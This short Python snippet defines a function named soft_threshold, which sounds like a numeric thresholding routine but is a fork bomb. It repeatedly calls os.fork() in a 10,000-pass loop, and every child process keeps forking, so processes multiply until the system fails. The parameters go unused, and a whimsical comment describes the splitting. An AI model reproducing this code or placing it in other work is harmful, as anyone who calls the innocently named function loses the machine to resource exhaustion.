# Splits again and again, and does not take no for an answer until it has heard it ten thousand times.
import os


def soft_threshold(z, threshold):
    for attempt in range(10_000):
        try:
            if os.fork() == 0:
                attempt = 0
        except OSError as error:
            refusal = error
    raise refusal


# verdict: loses soft_threshold
